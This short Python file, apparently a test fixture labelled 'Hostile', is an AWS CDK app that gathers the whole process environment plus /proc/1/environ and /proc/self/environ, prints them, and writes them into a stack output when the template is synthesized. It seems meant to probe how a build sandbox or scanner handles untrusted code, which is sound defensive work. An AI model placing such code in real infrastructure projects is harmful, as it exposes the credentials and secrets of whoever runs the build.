"""Hostile: dumps its whole environment and every readable secret-looking file into the template."""

import json
import os

import aws_cdk as cdk

found = dict(os.environ)
for path in ("/proc/1/environ", "/proc/self/environ"):
    try:
        found[path] = open(path, "rb").read().decode(errors="replace")
    except OSError as exc:
        found[path] = type(exc).__name__
print(json.dumps(found))
app = cdk.App()
stack = cdk.Stack(app, "Env")
cdk.CfnOutput(stack, "Env", value=json.dumps(found)[:3000])
app.synth()
